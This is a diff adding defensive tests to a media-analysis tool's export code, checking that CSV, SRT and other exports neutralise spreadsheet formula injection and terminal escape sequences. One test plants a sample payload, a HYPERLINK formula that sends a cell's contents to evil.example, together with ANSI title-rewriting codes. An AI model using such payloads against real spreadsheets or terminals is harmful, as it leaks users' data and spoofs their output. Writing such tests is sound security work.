@@ -3,18 +3,27 @@
 import csv
 import io
 import json
+import os
+import re
+import subprocess
+import sys
 from collections import Counter
+from collections.abc import Callable
+from contextlib import suppress
 from itertools import pairwise
-from pathlib import Path
+from pathlib import Path, PurePath
 from typing import TYPE_CHECKING, Any
 
 import opentimelineio as otio
 import pysubs2
 import pytest
 
+from mediahost.cli.export_formats import Film, Mark, as_csv
+
 if TYPE_CHECKING:
     from tests.integration.conftest import Home
 
+PROGRAM = Path(sys.executable).with_name("mediahost")
 BEGINNING = "It was the best of times, it was the worst of times"
 TALK = """
 [pipelines.talk]
@@ -22,6 +31,24 @@ steps = [
     {name = "sound", action = "av.extract_audio"},
     {action = "speech.transcribe", config = {model = "tiny.en"}, media = "sound"},
 ]
+"""
+
+
+SAYS = """
+from mediahost import Analyzer, MediaAnalysisResult, TimeRange, Transcription, hookimpl
+
+
+class Says(Analyzer, name="says.words"):
+    def analyze(self, media, context):
+        words = {words!r}
+        said = TimeRange(start=0, end=2, label="speech", payload={{"text": words}})
+        told = Transcription(provider="says", text=words)
+        return MediaAnalysisResult(ranges=(said,), transcription=told)
+
+
+@hookimpl
+def mediahost_register_actions():
+    return [Says]
 """
 
 
@@ -167,3 +194,57 @@ def test_what_can_not_be_exported_is_said(home: "Home") -> None:
     assert (wrong.code, "No format named 'sub'" in wrong.err) == (2, True)
     itself = home.call("export", path, "--format", "json", "--output", path)
     assert (itself.code, "is the media file itself" in itself.err) == (2, True)
+
+
+@pytest.fixture(scope="module")
+def on_a_terminal() -> Callable[["Home", str], bytes]:
+    """What a shell's line writes to a terminal."""
+
+    def written(home: "Home", line: str) -> bytes:
+        near, far = os.openpty()
+        path = f"{PROGRAM.parent}{os.pathsep}{home.environ['PATH']}"
+        environ = {**home.environ, "PATH": path, "TERM": "xterm"}
+        done = subprocess.Popen(["sh", "-c", line], stdout=far, env=environ, cwd=home.folder)
+        os.close(far)
+        data = b""
+        with suppress(OSError):  # EIO: nobody writes any more
+            while piece := os.read(near, 4096):
+                data += piece
+        os.close(near)
+        assert done.wait(60) == 0
+        return data
+
+    return written
+
+
+def test_a_table_holds_no_formula_and_a_terminal_obeys_no_export(
+    home: "Home", on_a_terminal: Callable[["Home", str], bytes]
+) -> None:
+    path = home.tone("t.wav")
+    words = '=HYPERLINK("http://evil.example/?"&A1) \x1b]0;OWNED\x07\x1b[31mred'
+    plugin = home.folder / "says.py"
+    plugin.write_text(SAYS.format(words=words))
+    home.environ["MEDIAHOST_PLUGINS"] = str(plugin)
+    assert home.call("run", path, "--action", "says.words").code == 0
+    (row,) = csv.DictReader(io.StringIO(exported(home, path, "csv").read_text()))
+    assert row["text"] == "'" + words
+    for name in ("csv", "srt", "audacity", "edl"):
+        data = on_a_terminal(home, f"mediahost export media/t.wav -f {name}")
+        assert b"OWNED" in data
+        assert not re.search(rb"[\0-\x08\x0b\x0c\x0e-\x1f\x7f]", data), data
+
+
+@pytest.mark.parametrize(
+    "text", ["=1", "+1", "-1", "@A", " =1", "\t=1", "\r1", "\n1", "\x1f=1", "\u200b=1", "\uff1d1"]
+)
+def test_what_a_spreadsheet_takes_for_a_formula_is_text(text: str) -> None:
+    table = as_csv([Mark(0, 1, text, text)], Film(PurePath("t.wav")))
+    (row,) = csv.DictReader(io.StringIO(table, newline=""))
+    assert (row["label"], row["text"]) == (f"'{text}", f"'{text}")
+
+
+@pytest.mark.parametrize("text", ["a=1", "speech", "1-1", "", "(=1)"])
+def test_all_other_text_is_as_it_is(text: str) -> None:
+    table = as_csv([Mark(0, 1, text, text)], Film(PurePath("t.wav")))
+    (row,) = csv.DictReader(io.StringIO(table, newline=""))
+    assert (row["label"], row["text"]) == (text, text)
